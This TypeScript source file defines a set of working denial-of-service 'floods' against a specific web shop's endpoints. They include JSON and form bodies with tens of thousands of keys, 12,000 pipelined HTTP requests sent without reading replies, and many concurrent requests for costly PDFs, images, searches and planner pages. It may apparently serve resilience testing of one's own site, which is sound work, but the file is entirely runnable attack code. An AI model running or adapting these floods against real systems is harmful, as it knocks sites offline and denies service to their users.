import { Agent } from 'node:http'
import { exchange } from '../exchange.ts'
import type { Attack, Target } from './attacks.ts'
import { openRaw } from './raw-connection.ts'

const contact = '/contact-requests-store-from-website'
const json = { 'content-type': 'application/json' }

/** Keeps `maxInFlight` requests in flight until the time is up. */
async function keepAsking(
  target: Target,
  atOnce: number,
  next: () => { path: string; body?: string; headers?: Record<string, string> },
): Promise<void> {
  const { url, from, signal, note } = target
  const agent = new Agent({ keepAlive: true, maxSockets: atOnce, localAddress: from })
  async function ask() {
    while (!signal.aborted) {
      const { path, body, headers = {} } = next()
      const sent = { headers, ...(body === undefined ? {} : { method: 'POST', body }) }
      await exchange(agent, url + path, sent).then(
        ({ status }) => note(status),
        (error: NodeJS.ErrnoException) => note(error.code ?? error.message),
      )
    }
  }
  await Promise.all(Array.from({ length: atOnce }, ask))
  agent.destroy()
}

function manyKeys(count: number): string {
  return JSON.stringify(
    Object.fromEntries(Array.from({ length: count }, (_, i) => [shortName(i), ''])),
  )
}

/** Pipelines requests on few connections, without reading the responses. */
async function pipeline({ url, from, signal, note }: Target, encoding: string): Promise<void> {
  const request = `GET / HTTP/1.1\r\nHost: ${new URL(url).host}\r\nAccept-Encoding: ${encoding}\r\n\r\n`
  while (!signal.aborted) {
    const { socket, closed } = openRaw(url, from, false)
    socket.write(request.repeat(12_000))
    await Promise.race([closed.then(() => note('closed by the site')), ended(signal)])
    socket.destroy()
  }
}

function ended(signal: AbortSignal): Promise<void> {
  return new Promise((resolve) => {
    if (signal.aborted) resolve()
    else signal.addEventListener('abort', () => resolve(), { once: true })
  })
}

let asked = 0
const turn = (values: readonly string[]) => values[asked++ % values.length] ?? ''

export const floods: readonly Attack[] = [
  {
    name: 'JSON of 45,000 keys, four at once',
    async run(target) {
      const body = manyKeys(45_000)
      await keepAsking(target, 4, () => ({ path: contact, body, headers: json }))
    },
  },
  {
    name: 'a form of 40,000 fields, four at once',
    async run(target) {
      const body = new URLSearchParams(manyFields(40_000)).toString()
      const headers = { 'content-type': 'application/x-www-form-urlencoded' }
      await keepAsking(target, 4, () => ({ path: '/contact', body, headers }))
    },
  },
  { name: '12,000 pipelined, identity, never read', run: (target) => pipeline(target, 'identity') },
  { name: '12,000 pipelined, gzip, never read', run: (target) => pipeline(target, 'gzip') },
  {
    name: '25 specification sheets at once',
    run: (target) =>
      keepAsking(target, 25, () => ({ path: `${turn(target.products)}/specification.pdf` })),
  },
  {
    name: '25 share pictures at once',
    run: (target) =>
      keepAsking(target, 25, () => ({
        path: `${turn(target.products).replace('/catalogue/', '/share/products/')}.png`,
      })),
  },
  {
    name: '40 different searches at a time',
    run: (target) =>
      keepAsking(target, 40, () => ({
        path: `/catalogue?q=${encodeURIComponent(`${turn(target.words)} ${asked}`)}`,
      })),
  },
  {
    name: '40 product pages of invented addresses at a time',
    run: (target) => keepAsking(target, 40, () => ({ path: `/catalogue/bottle-${asked++}` })),
  },
  {
    name: '40 run plans at a time',
    run: (target) =>
      keepAsking(target, 40, () => {
        const bottle = turn(target.words)
        return { path: `/catalogue/planner?amount=${1000 + (asked % 90_000)}&bottle=${bottle}` }
      }),
  },
]

/** Returns a short name, base 36, so that many names are few bytes. */
const shortName = (number: number) => number.toString(36)

function manyFields(count: number): [string, string][] {
  return Array.from({ length: count }, (_, i) => [shortName(i), 'x'])
}
